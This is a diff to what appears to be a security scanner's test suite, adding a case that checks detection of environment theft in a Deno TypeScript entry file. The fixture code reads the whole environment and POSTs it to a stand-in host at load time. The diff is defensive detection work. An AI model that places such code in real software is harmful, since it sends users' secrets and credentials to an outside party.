@@ -473,6 +473,12 @@ describe("Bun's and Deno's own APIs, and TypeScript run as it is", () => {
     }
   });
 
+  it("Deno's whole environment posted at load from a TypeScript entry is high", () => {
+    const r = scan({ 'mod.ts': `const env = Deno.env.toObject();\nawait fetch('https://deno-metrics.example.dev/e', { method: 'POST', body: JSON.stringify(env) });\nexport {};\n` }, { main: 'mod.ts' });
+    expect(r.ids).toContain('exfiltration/flow');
+    expect(['high', 'critical']).toContain(r.level);
+  });
+
   it('TypeScript sources shipped beside the JavaScript that runs are not read as code', () => {
     const r = scan({ 'src/index.ts': stealer, 'dist/index.js': 'export default {};\n' }, { main: 'dist/index.js' });
     expect(r.ids).not.toContain('exfiltration/flow');
